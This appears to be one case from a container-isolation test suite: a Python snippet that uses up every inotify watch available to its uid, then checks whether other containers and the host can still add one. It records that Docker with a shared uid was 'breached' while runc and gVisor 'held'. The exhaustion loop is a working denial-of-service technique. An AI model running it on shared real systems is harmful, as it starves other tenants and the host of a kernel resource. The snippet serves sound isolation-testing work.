# Tries: take all inotify watches of its uid
# Idea: fs.inotify.max_user_watches
# Docker: breached with --user 61234:61234
# runc: held
# gVisor: held
bound = int(read("/proc/sys/fs/inotify/max_user_watches")) if os.path.exists("/proc/sys/fs/inotify/max_user_watches") else 10_000
folder = "/tmp" if os.access("/tmp", os.W_OK) else "/dev/shm"
os.mkdir(folder + "/watched")
names = [f"{folder}/watched/{n}".encode() for n in range(bound // 100 + 1)]
for name in names: os.close(os.open(name, os.O_CREAT))
taken, error, deadline = 0, None, time.monotonic() + 50
while not error and taken < bound and time.monotonic() < deadline:
    try: instance = checked(libc.inotify_init())
    except OSError as e: error = e; break
    for name in names:
        if libc.inotify_add_watch(instance, name, 2) == -1: error = ctypes.get_errno(); break
        taken += 1
ready(taken)
#--- meanwhile, in another container and on the host
instance = checked(libc.inotify_init())
if libc.inotify_add_watch(instance, b"/", 2) == -1: breached(errno.errorcode[ctypes.get_errno()])
held("one more")
